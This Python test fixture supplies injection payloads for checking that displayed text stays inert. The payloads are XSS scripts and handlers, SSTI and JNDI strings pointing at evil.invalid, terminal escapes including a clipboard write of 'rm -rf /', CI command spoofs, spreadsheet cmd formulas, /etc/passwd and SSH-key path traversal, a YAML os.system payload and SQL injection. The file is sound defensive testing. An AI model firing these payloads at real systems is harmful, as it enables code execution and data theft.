r"""What a connector could write to harm whoever reads it, for tests of everything that shows text.

Where one of them runs as a script, `window.PWNED` is set or a dialog opens; where one is
followed as a link, a host under `evil.invalid` is asked.

```python
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_stream_name_is_shown_as_text(payload): ...
```
"""

from __future__ import annotations

import re
from typing import Final

__all__ = ["BY_KIND", "PAYLOADS", "raw_controls", "runner_commands"]

BY_KIND: Final[dict[str, tuple[str, ...]]] = {
    "scripts": (
        "<script>window.PWNED=1</script>",
        "</script><script>window.PWNED=1</script>",
        "</style><script>window.PWNED=1</script>",
        "</textarea></title><script>alert(1)</script>",
        "</pre></code></article></main><script>window.PWNED=1</script>",
        "<!--<script>window.PWNED=1//-->",
        "--><script>window.PWNED=1</script>",
        "<![CDATA[<script>window.PWNED=1</script>]]>",
        "<template><script>window.PWNED=1</script></template>",
        "</SCRIPT ><ScRiPt>window.PWNED=1</sCrIpT>",
    ),
    "elements": (
        "<img src=x onerror=window.PWNED=1>",
        "<img src=x onerror=alert(1)>",
        '<img src="http://evil.invalid/pixel.png">',
        '<link rel="stylesheet" href="http://evil.invalid/x.css">',
        "<style>@import url(http://evil.invalid/x.css);</style>",
        "<style>*{background:url(http://evil.invalid/y)}</style>",
        "<iframe src=javascript:window.PWNED=1></iframe>",
        "<iframe srcdoc='<script>parent.PWNED=1</script>'></iframe>",
        '<object data="http://evil.invalid/o"></object>',
        '<embed src="http://evil.invalid/e">',
        '<base href="http://evil.invalid/">',
        '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
        '<form action="http://evil.invalid/"><button>go</button></form>',
        "<input autofocus onfocus=window.PWNED=1>",
        "<body onload=window.PWNED=1>",
        "<details open ontoggle=window.PWNED=1>",
        "<video><source onerror=window.PWNED=1></video>",
        "<dialog open><button autofocus onfocus=alert(1)>x</button></dialog>",
        "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    ),
    "SVG": (
        "<svg/onload=window.PWNED=1>",
        "<svg><script>window.PWNED=1</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:window.PWNED=1'><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    ),
    "attributes": (
        '" onmouseover="window.PWNED=1" x="',
        "' onfocus='window.PWNED=1' autofocus tabindex='0",
        "` onfocus=`window.PWNED=1`",
        '"><script>window.PWNED=1</script>',
        "'><img src=x onerror=alert(1)>",
        "x onmouseover=alert(1) style=position:fixed;inset:0",
    ),
    "links": (
        "javascript:window.PWNED=1",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>window.PWNED=1</script>",
        "vbscript:msgbox(1)",
        "//evil.invalid/x",
        "http://evil.invalid/x",
        "\\\\evil.invalid\\share",
        "file:///etc/passwd",
        "#q=<script>alert(1)</script>",
    ),
    "templates": (
        "{{ 7*7 }}{% raw %}{{ config }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${window.PWNED=1}",
        "`${alert(1)}`",
        "#{7*7}<%= 7*7 %>",
        "{0.__class__.__init__.__globals__}%(x)s%n%s%x",
        "${jndi:ldap://evil.invalid/a}$(touch PWNED)`touch PWNED`",
    ),
    "entities": (
        "&lt;script&gt;window.PWNED=1&lt;/script&gt;",
        "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "]]>&amp;<?xml version='1.0'?>",
    ),
    "terminal": (
        "\x1b]0;PWNED\x07\x1b[2J\x1b[1;1H",
        "\x1b]8;;http://evil.invalid\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIC8=\x07",
        "\x1b[8mhidden\x1b[0m\x1b[32mPASSED",
        "\x1bP+q544e\x1b\\\x1b[6n\x1b[>c",
        "\x9b2J\x9d0;PWNED\x9c\x85\x90",
        "\x00\x01\x08\x0b\x0c\x0e\x7f",
        "FAILED\b\b\b\b\b\bPASSED",
        "over\rwritten",
        "one\r\ntwo\nthree\x0bfour\x0cfive\x85six",
    ),
    "unicode": (
        "\u2028window.PWNED=1\u2029",
        "\u202egnp.exe\u202c",
        "\u202dleft\u202aright\u202b",
        "\u2066left\u2067right\u2068first\u2069",
        "\u061cmark\u200emark\u200f",
        "zero\u200bwidth\u200c\u200d\u2060\ufeff",
        "soft\u00adhyphen\u034fjoined\u3164filled\u115f",
        "tag\U000e0041\U000e007f\ufff9note\ufffa\ufffb",
        "\ud800lone\udfff",
        "\ufdd0\ufffe\uffffno character",
        "Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358\u0359g\u035a\u035b\u035co",
    ),
    "CI commands": (
        "::error::PWNED",
        "text\n::set-env name=PATH::/evil",
        "  ::stop-commands::PWNED",
        "words words ::add-mask::a ##[error]PWNED ##[group]x",
        "%0A::warning::x%0D%0A::error::y",
        "##vso[task.setvariable variable=PWNED]1",
        "##teamcity[buildStatus status='SUCCESS']",
        "section_start:0:x\r\x1b[0Kcollapsed",
        # So long a word is broken by whoever wraps lines, right before a command, somewhere.
        *("x" * n + "::error::PWNED" for n in (61, 72, 83)),
    ),
    "Markdown": (
        "| a | b |\n|---|---|\n| c | d |",
        "`code` ```fence``` ~~~",
        "![x](http://evil.invalid/pixel.png)",
        "[click](javascript:window.PWNED=1) <http://evil.invalid>",
        "# heading\n> quote\n- [x] done\n1. one",
        "@everyone #1 **bold** _it_ ~~s~~ $x$ :smile: [^1]: x\\",
    ),
    "formulas": (
        '=HYPERLINK("http://evil.invalid")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|x!A1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\uff1d1",
    ),
    "paths": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "CON",
        "aux.json",
        "~/.ssh/id_rsa",
        ".",
        "-rf",
        "a/b\x00c",
    ),
    "settings": (
        "!!python/object/apply:os.system ['touch PWNED']",
        "- *a\n&a !!binary x: {<<: *a}",
        "'; DROP TABLE records; --",
        '{"$ref": "file:///etc/passwd"}',
    ),
    "long": ("A" * 20_000, "\u00e9" * 3_000 + "\U0001f4a3", "\x1b" * 2_000),
}
"""The texts by what they are aimed at."""

PAYLOADS: Final = tuple(text for texts in BY_KIND.values() for text in texts)
"""All of them."""

# Written down once more, and not taken from `hydrotest_core.untrusted`: what checks must
# not believe what it checks.
_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u3164\ufdd0-\ufdef\ufffe\uffff\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff"
    "\ufff9-\ufffb\ud800-\udfff\U000e0000-\U000e007f]"
)
_COMMANDS = re.compile(r"^\s*::[\w-]|##(?:\w*)\[", re.MULTILINE)


def raw_controls(text: str) -> list[str]:
    """Return the characters in `text` that act on a reader's view, line feeds and tabs aside."""
    return _CONTROLS.findall(text)


def runner_commands(text: str) -> list[str]:
    """Return what a CI runner would take for commands in `text`."""
    return _COMMANDS.findall(text)
